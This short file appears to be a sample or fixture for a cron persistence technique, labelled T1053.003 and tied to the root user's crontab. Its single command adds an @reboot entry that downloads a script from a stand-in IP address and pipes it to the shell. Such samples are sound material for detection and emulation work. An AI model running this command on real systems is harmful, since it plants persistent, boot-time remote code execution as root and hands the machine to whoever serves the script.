# technique: T1053.003
# location: linux.cron.user
# source: /var/spool/cron/crontabs/root
(crontab -l; echo '@reboot curl -fsS http://203.0.113.9/a | sh') | crontab -
